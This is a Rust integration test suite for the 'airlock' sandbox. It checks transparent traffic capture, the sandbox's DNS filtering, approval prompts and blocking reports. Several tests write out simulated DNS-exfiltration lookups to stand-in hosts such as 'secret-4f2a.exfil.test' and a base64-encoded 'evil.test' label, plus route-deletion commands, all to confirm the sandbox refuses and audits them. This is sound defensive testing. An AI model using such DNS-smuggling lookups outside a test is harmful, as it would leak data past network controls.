//! Transparent capture and the sandbox's DNS (SPEC §5.5), end to end: real
//! clients with the proxy variables unset (curl --noproxy, Node's
//! https.get and fetch, Python sockets, getent) inside `airlock run`, as
//! root and as an ordinary user. Origins listen on 127.0.0.2, which the
//! sandbox reaches only through capture (127.0.0.1 is its own loopback);
//! the policy pins the test names to that address.

use std::net::UdpSocket;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::{Arc, Mutex};

use airlock_tests::tls::{TestPki, TlsOrigin};
use airlock_tests::*;

/// A DNS query with two questions, sent to the sandbox's resolver; prints
/// the answer's response code.
const TWO_QUESTIONS: &str = r#"
import socket, struct
def q(n): return b"".join(bytes([len(p)]) + p.encode() for p in n.split(".")) + b"\0" + struct.pack(">HH", 1, 1)
pkt = struct.pack(">HHHHHH", 0x1234, 0x0100, 2, 0, 0, 0) + q("two-a1.exfil.test") + q("two-b2.exfil.test")
ns = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")][0]
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3); s.sendto(pkt, (ns, 53))
print("two-q rcode", s.recv(512)[3] & 15)
"#;

fn base() -> PathBuf {
    std::env::var_os("AIRLOCK_TEST_DIR")
        .map(PathBuf::from)
        .unwrap_or_else(|| PathBuf::from("/var/tmp/airlock-capture"))
}

fn show(out: &Out) -> String {
    format!("--- stdout\n{}--- stderr\n{}", out.stdout, out.stderr)
}

fn have(tool: &str) -> bool {
    Command::new("sh")
        .args(["-c", &format!("command -v {tool}")])
        .output()
        .is_ok_and(|o| o.status.success())
}

/// Run as uid 65534 (when we are root), keeping the environment.
fn as_nobody(f: &Fixture, cmd: Command) -> Command {
    for d in [&f.home, &f.ws] {
        let _ = Command::new("chown")
            .args(["-R", "65534:65534"])
            .arg(d)
            .status();
    }
    let _ = Command::new("chmod").args(["o+rx"]).arg(base()).status();
    let mut c = Command::new("setpriv");
    c.args(["--reuid=65534", "--regid=65534", "--clear-groups", "--"])
        .arg(cmd.get_program())
        .args(cmd.get_args());
    c.env_clear();
    for (k, v) in cmd.get_envs() {
        if let Some(v) = v {
            c.env(k, v);
        }
    }
    c.current_dir(&f.ws).stdin(std::process::Stdio::null());
    c
}

/// Who runs the sandbox: the test's own user, and an ordinary one when
/// the test runs as root.
fn users() -> Vec<bool> {
    if is_root() {
        vec![false, true]
    } else {
        vec![false]
    }
}

struct Setup {
    f: Fixture,
    pki: TestPki,
    origin: TlsOrigin,
    policy: PathBuf,
    audit: PathBuf,
    report: PathBuf,
}

fn setup(inspect: bool) -> Setup {
    let f = Fixture::new_in(&base());
    let pki = TestPki::new(&f.home.join("pki"), &["api.test"]);
    let origin = TlsOrigin::start_on(&pki, "origin", "127.0.0.2:0");
    let p = origin.port();
    let inspect = if inspect {
        "inspect = [\"api.test\"]\n"
    } else {
        ""
    };
    let policy = f.write(
        "~/policy.toml",
        &format!(
            "[network]\nallow = [\"api.test:{p}\"]\n{inspect}allow_private = [\"127.0.0.0/8\"]\n\n\
             [network.resolve]\n\"api.test\" = \"127.0.0.2\"\n"
        ),
    );
    let audit = f.home.join("audit.jsonl");
    let report = f.home.join("report.json");
    Setup {
        f,
        pki,
        origin,
        policy,
        audit,
        report,
    }
}

impl Setup {
    fn command(&self, extra: &[&str], script: &str) -> Command {
        let mut args = vec![
            "-p",
            self.policy.to_str().unwrap(),
            "--upstream-ca",
            self.pki.ca_pem.to_str().unwrap(),
            "--ask",
            "deny",
            "--audit-log",
            self.audit.to_str().unwrap(),
            "--report",
            self.report.to_str().unwrap(),
        ];
        args.extend_from_slice(extra);
        // Nothing in the sandbox may learn of the proxy.
        let script = format!(
            "unset HTTP_PROXY HTTPS_PROXY ALL_PROXY http_proxy https_proxy all_proxy NO_PROXY no_proxy\n{script}"
        );
        self.f.command(&args, &script)
    }

    fn url(&self, path: &str) -> String {
        format!("https://api.test:{}{path}", self.origin.port())
    }

    fn want(&self, path: &str) -> String {
        format!("origin GET {path} host=api.test:{}", self.origin.port())
    }
}

/// The script: every client that ignores the proxy, fetching `path`.
/// `ca` is what the clients trust (the origin's CA, or nothing extra when
/// inspection's trust variables do it).
fn clients(s: &Setup, path: &str, ca: Option<&Path>) -> String {
    let url = s.url(path);
    let p = s.origin.port();
    let (curl_ca, py_ca, node_ca) = match ca {
        Some(ca) => (
            format!("--cacert {}", ca.display()),
            format!("cafile=\"{}\"", ca.display()),
            format!("NODE_EXTRA_CA_CERTS={} ", ca.display()),
        ),
        None => (String::new(), String::new(), String::new()),
    };
    format!(
        "echo getent: $(getent hosts api.test)\n\
         echo curl: $(curl -sS --noproxy '*' {curl_ca} {url})\n\
         echo node-get: $({node_ca}node -e 'require(\"https\").get(\"{url}\", r => {{ let d = \"\"; r.on(\"data\", c => d += c); r.on(\"end\", () => console.log(d)); }}).on(\"error\", e => console.log(\"error\", e.message))')\n\
         echo node-fetch: $({node_ca}node -e 'fetch(\"{url}\").then(r => r.text()).then(t => console.log(t), e => console.log(\"error\", e.cause ? e.cause.message : e.message))')\n\
         echo python: $(python3 -c 'import http.client, socket, ssl\n\
ctx = ssl.create_default_context({py_ca})\n\
t = ctx.wrap_socket(socket.create_connection((\"api.test\", {p}), timeout=10), server_hostname=\"api.test\")\n\
t.sendall(b\"GET {path} HTTP/1.1\\r\\nHost: api.test:{p}\\r\\nConnection: close\\r\\n\\r\\n\")\n\
r = http.client.HTTPResponse(t)\n\
r.begin()\n\
print(r.read().decode())\n\
')\n"
    )
}

fn check_clients(s: &Setup, out: &Out, path: &str) {
    assert!(
        out.stdout.contains("getent: 127.0.0.2 api.test"),
        "getent\n{}",
        show(out)
    );
    for client in ["curl", "node-get", "node-fetch", "python"] {
        assert!(
            out.stdout.contains(&format!("{client}: {}", s.want(path))),
            "{client} did not reach the origin through capture\n{}",
            show(out)
        );
    }
    let events = audit_events(&s.audit);
    let captured = events
        .iter()
        .filter(|e| {
            e["event"] == "decision" && e["protocol"] == "transparent" && e["decision"] == "allow"
        })
        .count();
    assert!(
        captured >= 4,
        "each client's connection is a transparent decision\n{events:#?}"
    );
    // Attributed to the sandboxed process, as for the explicit proxy.
    assert!(
        events
            .iter()
            .any(|e| e["protocol"] == "transparent"
                && e["command"]["argv"][0].as_str() == Some("curl")),
        "{events:#?}"
    );
}

#[test]
fn clients_that_ignore_the_proxy_reach_an_allowed_host() {
    assert!(have("node") && have("python3") && have("curl"));
    for nobody in users() {
        let s = setup(false);
        let script = clients(&s, "/plain", Some(&s.pki.ca_pem));
        let mut cmd = s.command(&[], &script);
        if nobody {
            let _ = Command::new("chmod")
                .args(["-R", "a+rX"])
                .arg(&s.f.home)
                .status();
            cmd = as_nobody(&s.f, cmd);
        }
        let out = run(&mut cmd);
        check_clients(&s, &out, "/plain");
        assert_eq!(out.code, 0, "{}", show(&out));
    }
}

#[test]
fn clients_that_ignore_the_proxy_are_inspected_too() {
    assert!(have("node") && have("python3") && have("curl"));
    for nobody in users() {
        let s = setup(true);
        // Trust comes from the variables the sandbox gets for inspection.
        let script = clients(&s, "/inspected", None);
        let mut cmd = s.command(&[], &script);
        if nobody {
            cmd = as_nobody(&s.f, cmd);
        }
        let out = run(&mut cmd);
        check_clients(&s, &out, "/inspected");
        let events = audit_events(&s.audit);
        assert!(
            events.iter().any(|e| e["event"] == "request"
                && e["url"].as_str().is_some_and(|u| u.contains("/inspected"))),
            "inspected requests are logged\n{events:#?}"
        );
    }
}

#[test]
fn a_captured_tls_connection_must_name_its_host() {
    // The DNS answered api.test with this address; a ClientHello naming
    // another host is refused (sni-mismatch), as for CONNECT.
    let s = setup(false);
    let script = format!(
        "curl -sS --noproxy '*' -k --connect-to other.test:{p}:api.test:{p} https://other.test:{p}/x; echo rc=$?",
        p = s.origin.port()
    );
    let out = run(&mut s.command(&[], &script));
    assert!(!out.stdout.contains("origin GET"), "{}", show(&out));
    let report: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&s.report).unwrap()).unwrap();
    assert!(
        report["blocked"]
            .as_array()
            .unwrap()
            .iter()
            .any(|b| b["reason"] == "sni-mismatch" && b["host"] == "api.test"),
        "{report:#}\n{}",
        show(&out)
    );
}

/// A logging upstream resolver on 127.0.0.1 (for `--dns-server`): it
/// records every name asked and answers A queries with 127.0.0.2.
struct LoggingResolver {
    port: u16,
    asked: Arc<Mutex<Vec<String>>>,
}

impl LoggingResolver {
    fn start() -> LoggingResolver {
        let sock = UdpSocket::bind("127.0.0.1:0").unwrap();
        let port = sock.local_addr().unwrap().port();
        let asked = Arc::new(Mutex::new(vec![]));
        let log = asked.clone();
        std::thread::spawn(move || {
            let mut buf = [0u8; 1500];
            while let Ok((n, from)) = sock.recv_from(&mut buf) {
                let q = &buf[..n];
                let Some((name, end)) = question(q) else {
                    continue;
                };
                log.lock().unwrap().push(name);
                let qtype = u16::from_be_bytes([q[end - 4], q[end - 3]]);
                let mut r = q[..2].to_vec();
                r.extend_from_slice(&[0x81, 0x80, 0, 1, 0, (qtype == 1) as u8, 0, 0, 0, 0]);
                r.extend_from_slice(&q[12..end]);
                if qtype == 1 {
                    r.extend_from_slice(&[0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4, 127, 0, 0, 2]);
                }
                let _ = sock.send_to(&r, from);
            }
        });
        LoggingResolver { port, asked }
    }

    fn asked(&self) -> Vec<String> {
        self.asked.lock().unwrap().clone()
    }
}

/// The question's name and where the question section ends.
fn question(q: &[u8]) -> Option<(String, usize)> {
    let mut i = 12;
    let mut labels = vec![];
    loop {
        let len = *q.get(i)? as usize;
        i += 1;
        if len == 0 {
            break;
        }
        labels.push(String::from_utf8_lossy(q.get(i..i + len)?).to_lowercase());
        i += len;
    }
    (q.len() >= i + 4).then(|| (labels.join("."), i + 4))
}

#[test]
fn refused_names_never_reach_the_upstream_resolver() {
    let f = Fixture::new_in(&base());
    let dns = LoggingResolver::start();
    let policy = f.write(
        "~/policy.toml",
        "[network]\nallow = [\"allowed.test\"]\nallow_private = [\"127.0.0.0/8\"]\n",
    );
    let report = f.home.join("report.json");
    let server = format!("127.0.0.1:{}", dns.port);
    for nobody in users() {
        let script = "\
            echo allowed: $(getent hosts allowed.test)\n\
            getent hosts secret-4f2a.exfil.test; echo refused-rc=$?\n\
            getent ahosts c2VjcmV0.evil.test; echo refused2-rc=$?\n\
            python3 -c 'import socket; print(socket.getaddrinfo(\"py-secret.evil.test\", 443))' 2>&1 | tail -1\n";
        let mut cmd = f.command(
            &[
                "-p",
                policy.to_str().unwrap(),
                "--dns-server",
                &server,
                "--ask",
                "deny",
                "--report",
                report.to_str().unwrap(),
            ],
            script,
        );
        if nobody {
            cmd = as_nobody(&f, cmd);
        }
        let out = run(&mut cmd);
        assert!(
            out.stdout.contains("allowed: 127.0.0.2 allowed.test"),
            "{}",
            show(&out)
        );
        assert!(out.stdout.contains("refused-rc=2"), "{}", show(&out));
        assert!(out.stdout.contains("refused2-rc=2"), "{}", show(&out));
        assert!(out.stdout.contains("gaierror"), "{}", show(&out));
        let asked = dns.asked();
        assert!(
            asked.iter().any(|n| n == "allowed.test"),
            "the allowed name is resolved upstream: {asked:?}"
        );
        assert!(
            asked
                .iter()
                .all(|n| !n.contains("secret") && !n.contains("evil") && !n.contains("exfil")),
            "a refused name reached the upstream resolver: {asked:?}"
        );
        let report: serde_json::Value =
            serde_json::from_str(&std::fs::read_to_string(&report).unwrap()).unwrap();
        assert!(
            report["blocked"].as_array().unwrap().iter().any(|b| {
                b["host"] == "secret-4f2a.exfil.test" && b["reason"] == "not-allowlisted"
            }),
            "{report:#}"
        );
    }
}

#[test]
fn refused_destinations_fail_at_once_and_show_in_the_report() {
    if !blackhole("198.51.100.7/32") || !blackhole("2001:db8::7/128") {
        // Not root: a broken build could send these a packet.
        return;
    }
    let f = Fixture::new_in(&base());
    let report = f.home.join("report.json");
    // The sandbox cannot take the route (or the rules) away first.
    let script = "\
        ip route del default; echo route-rc=$?\n\
        ip -6 route del default; echo route6-rc=$?\n\
        curl -sS --noproxy '*' -m 10 -D - http://198.51.100.7/ | grep -i x-airlock-reason\n\
        curl -sS --noproxy '*' -m 10 'https://[2001:db8::7]:443/'; echo v6-rc=$?\n\
        python3 udp.py\n";
    f.write(
        "udp.py",
        "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ntry:\n    s.sendto(b'quic', ('198.51.100.7', 443))\n    print('udp-sent')\nexcept OSError as e:\n    print('udp-refused', e.errno)\n",
    );
    for nobody in users() {
        let mut cmd = f.command(
            &["--ask", "deny", "--report", report.to_str().unwrap()],
            script,
        );
        if nobody {
            cmd = as_nobody(&f, cmd);
        }
        let started = std::time::Instant::now();
        let out = run(&mut cmd);
        assert!(
            started.elapsed() < std::time::Duration::from_secs(8),
            "refusals are immediate\n{}",
            show(&out)
        );
        assert!(
            out.stdout.contains("X-Airlock-Reason: not-allowlisted"),
            "{}",
            show(&out)
        );
        assert!(
            out.stdout.contains("v6-rc=35") || out.stdout.contains("v6-rc=56"),
            "{}",
            show(&out)
        );
        assert!(
            out.stdout.contains("udp-refused"),
            "UDP stays closed\n{}",
            show(&out)
        );
        let report: serde_json::Value =
            serde_json::from_str(&std::fs::read_to_string(&report).unwrap()).unwrap();
        let blocked = report["blocked"].as_array().unwrap();
        for (host, port) in [("198.51.100.7", 80), ("[2001:db8::7]", 443)] {
            assert!(
                blocked.iter().any(|b| b["host"] == host
                    && b["port"] == port
                    && b["reason"] == "not-allowlisted"),
                "{host} missing from {report:#}"
            );
        }
    }
}

#[test]
fn the_explicit_proxy_and_local_loopback_still_work() {
    let f = Fixture::new_in(&base());
    let origin = Origin::start_on("127.0.0.1:0", "origin");
    let policy = f.write(
        "~/policy.toml",
        &format!(
            "[network]\nallow = [\"origin.test:{}\"]\nallow_private = [\"127.0.0.0/8\"]\n\n\
             [network.resolve]\n\"origin.test\" = \"127.0.0.1\"\n",
            origin.port()
        ),
    );
    // The proxy is on the sandbox's own 127.0.0.1, which capture leaves
    // alone, and so is a server the command starts itself.
    let script = format!(
        "curl -sS http://origin.test:{}/via-proxy\n\
         python3 -m http.server 18555 --bind 127.0.0.1 >/dev/null 2>&1 & sleep 1\n\
         curl -sS --noproxy '*' -o /dev/null -w 'local=%{{http_code}}\\n' http://127.0.0.1:18555/\n\
         kill %1\n",
        origin.port()
    );
    let out = f.run(&["-p", policy.to_str().unwrap(), "--ask", "deny"], &script);
    assert!(
        out.stdout.contains("origin GET /via-proxy"),
        "{}",
        show(&out)
    );
    assert!(out.stdout.contains("local=200"), "{}", show(&out));
}

#[test]
fn doctor_says_capture_works_here() {
    // This machine type has nf_tables (SPEC §5.5); elsewhere doctor names
    // what is missing and `run` keeps the explicit proxy only.
    let home = Home::new();
    let out = run(airlock(home.path()).args(["doctor", "--json"]));
    let v: serde_json::Value = serde_json::from_str(&out.stdout).unwrap();
    assert!(
        v["capture"]
            .as_str()
            .is_some_and(|c| c.starts_with("yes (probed)")),
        "{}",
        show(&out)
    );
}

/// A socket approver that answers every question with `verdict` and
/// counts the questions.
fn approver(path: PathBuf, verdict: &'static str) -> Arc<Mutex<Vec<serde_json::Value>>> {
    use std::io::{BufRead, BufReader};
    let seen = Arc::new(Mutex::new(vec![]));
    let log = seen.clone();
    std::thread::spawn(move || {
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
        let stream = loop {
            match std::os::unix::net::UnixStream::connect(&path) {
                Ok(s) => break s,
                Err(_) if std::time::Instant::now() < deadline => {
                    std::thread::sleep(std::time::Duration::from_millis(10))
                }
                Err(_) => return,
            }
        };
        let mut w = stream.try_clone().unwrap();
        for line in BufReader::new(stream).lines().map_while(Result::ok) {
            let msg: serde_json::Value = serde_json::from_str(&line).unwrap();
            if msg["type"] == "ask" {
                log.lock().unwrap().push(msg.clone());
                let answer =
                    serde_json::json!({"type": "answer", "id": msg["id"], "verdict": verdict});
                let _ = std::io::Write::write_all(&mut w, format!("{answer}\n").as_bytes());
            }
        }
    });
    seen
}

#[test]
fn a_captured_connection_to_an_unknown_host_is_asked_about_once() {
    for (verdict, reached) in [("allow-once", true), ("deny", false)] {
        let f = Fixture::new_in(&base());
        let origin = Origin::start_on("127.0.0.2:0", "origin");
        // No allow rule: unknown, asked at connect time. The policy pins the
        // name, so the approval may reach its private test address.
        let policy = f.write(
            "~/policy.toml",
            "[network]\nunknown = \"ask\"\nallow_private = [\"127.0.0.0/8\"]\n\n\
             [network.resolve]\n\"ask.test\" = \"127.0.0.2\"\n",
        );
        let sock = f.home.join("approve.sock");
        let report = f.home.join("report.json");
        let seen = approver(sock.clone(), verdict);
        let ask = format!("socket:{}", sock.display());
        let script = format!(
            "echo getent: $(getent hosts ask.test)\n\
             curl -sS --noproxy '*' -m 10 http://ask.test:{}/asked; echo rc=$?\n",
            origin.port()
        );
        let out = run(&mut f.command(
            &[
                "-p",
                policy.to_str().unwrap(),
                "--ask",
                &ask,
                "--report",
                report.to_str().unwrap(),
            ],
            &script,
        ));
        assert!(
            out.stdout.contains("getent: 127.0.0.2 ask.test"),
            "the name is answered at lookup, without a question\n{}",
            show(&out)
        );
        let questions = seen.lock().unwrap().clone();
        assert_eq!(questions.len(), 1, "{questions:#?}\n{}", show(&out));
        assert_eq!(questions[0]["host"], "ask.test");
        assert_eq!(questions[0]["port"], origin.port());
        assert_eq!(
            out.stdout.contains("origin GET /asked host=ask.test"),
            reached,
            "{verdict}\n{}",
            show(&out)
        );
        assert_eq!(origin.hits(), usize::from(reached), "{}", show(&out));
        if !reached {
            let report: serde_json::Value =
                serde_json::from_str(&std::fs::read_to_string(&report).unwrap()).unwrap();
            assert!(
                report["blocked"]
                    .as_array()
                    .unwrap()
                    .iter()
                    .any(|b| b["host"] == "ask.test" && b["reason"] == "approval-denied"),
                "{report:#}"
            );
        }
    }
}

/// A lookup is data leaving (SPEC §5.5): with an approver configured and
/// nobody answering, a name that waits for approval is never sent to the
/// upstream resolver, and every name asked is an audit `dns` event. An
/// approved connection to such a name is resolved only then.
#[test]
fn a_name_awaiting_approval_is_never_looked_up_before_it() {
    for nobody in users() {
        let f = Fixture::new_in(&base());
        let dns = LoggingResolver::start();
        let server = format!("127.0.0.1:{}", dns.port);
        let origin = Origin::start_on("127.0.0.2:0", "origin");
        let p = origin.port();
        let policy = f.write(
            "~/policy.toml",
            "[network]\nallow = [\"allowed.test\"]\nunknown = \"ask\"\nask_timeout = \"2s\"\nallow_private = [\"127.0.0.0/8\"]\n",
        );
        let audit = f.home.join("audit.jsonl");
        let report = f.home.join("report.json");
        // Nobody ever connects to this socket.
        let sock = f.home.join("approve.sock");
        let ask = format!("socket:{}", sock.display());
        let script = format!(
            "echo allowed: $(getent hosts allowed.test)\n\
             echo secret: $(getent hosts secret-4f2a.exfil.test)\n\
             python3 -c 'import socket; socket.getaddrinfo(\"py-9c1d.exfil.test\", 443)' 2>&1 | tail -1\n\
             curl -sS --noproxy '*' -m 10 http://conn-77ab.exfil.test:{p}/; echo curl-rc=$?\n\
             python3 -c '{TWO_QUESTIONS}' 2>&1 | tail -1\n"
        );
        let mut cmd = f.command(
            &[
                "-p",
                policy.to_str().unwrap(),
                "--dns-server",
                &server,
                "--ask",
                &ask,
                "--audit-log",
                audit.to_str().unwrap(),
                "--report",
                report.to_str().unwrap(),
            ],
            &script,
        );
        if nobody {
            cmd = as_nobody(&f, cmd);
        }
        let out = run(&mut cmd);
        assert!(
            out.stdout.contains("allowed: 127.0.0.2 allowed.test"),
            "an allowed name still resolves\n{}",
            show(&out)
        );
        let asked = dns.asked();
        assert!(asked.iter().any(|n| n == "allowed.test"), "{asked:?}");
        assert!(
            asked.iter().all(|n| !n.contains("exfil")),
            "a name awaiting approval reached the upstream resolver: {asked:?}\n{}",
            show(&out)
        );
        assert!(
            out.stdout.contains("secret: 198.18."),
            "a placeholder stands for the name\n{}",
            show(&out)
        );
        assert_eq!(origin.hits(), 0);
        let events = audit_events(&audit);
        // Two questions in one query: refused, and both names audited.
        assert!(out.stdout.contains("two-q rcode 1"), "{}", show(&out));
        for name in ["two-a1.exfil.test", "two-b2.exfil.test"] {
            assert!(
                events
                    .iter()
                    .any(|e| e["event"] == "dns" && e["name"] == name && e["outcome"] == "refused"),
                "no dns event for {name}\n{events:#?}"
            );
        }
        for name in [
            "allowed.test",
            "secret-4f2a.exfil.test",
            "py-9c1d.exfil.test",
            "conn-77ab.exfil.test",
        ] {
            assert!(
                events
                    .iter()
                    .any(|e| e["event"] == "dns" && e["name"] == name && e["type"] == "A"),
                "no dns event for {name}\n{events:#?}"
            );
        }
        assert!(
            events.iter().any(|e| e["event"] == "dns"
                && e["name"] == "secret-4f2a.exfil.test"
                && e["outcome"] == "placeholder"),
            "{events:#?}"
        );
        let report: serde_json::Value =
            serde_json::from_str(&std::fs::read_to_string(&report).unwrap()).unwrap();
        assert!(
            report["blocked"]
                .as_array()
                .unwrap()
                .iter()
                .any(|b| b["host"] == "conn-77ab.exfil.test" && b["reason"] == "approval-timeout"),
            "{report:#}"
        );
    }

    // Approved: only now is the name looked up (and, being an approval,
    // its private test address is refused: the lookup is what shows).
    let f = Fixture::new_in(&base());
    let dns = LoggingResolver::start();
    let server = format!("127.0.0.1:{}", dns.port);
    let policy = f.write(
        "~/policy.toml",
        "[network]\nunknown = \"ask\"\nallow_private = [\"127.0.0.0/8\"]\n",
    );
    let report = f.home.join("report.json");
    let sock = f.home.join("approve.sock");
    let seen = approver(sock.clone(), "allow-once");
    let ask = format!("socket:{}", sock.display());
    let out = run(&mut f.command(
        &[
            "-p",
            policy.to_str().unwrap(),
            "--dns-server",
            &server,
            "--ask",
            &ask,
            "--report",
            report.to_str().unwrap(),
        ],
        "getent hosts later.test\n\
         curl -sS --noproxy '*' -m 10 http://later.test/; echo curl-rc=$?\n",
    ));
    let questions = seen.lock().unwrap().clone();
    assert_eq!(questions.len(), 1, "{questions:#?}\n{}", show(&out));
    assert_eq!(questions[0]["host"], "later.test");
    assert!(
        dns.asked().iter().any(|n| n == "later.test"),
        "the approved name was resolved after its approval: {:?}\n{}",
        dns.asked(),
        show(&out)
    );
    let report: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&report).unwrap()).unwrap();
    assert!(
        report["blocked"]
            .as_array()
            .unwrap()
            .iter()
            .any(|b| b["host"] == "later.test" && b["reason"] == "private-address"),
        "{report:#}\n{}",
        show(&out)
    );
}
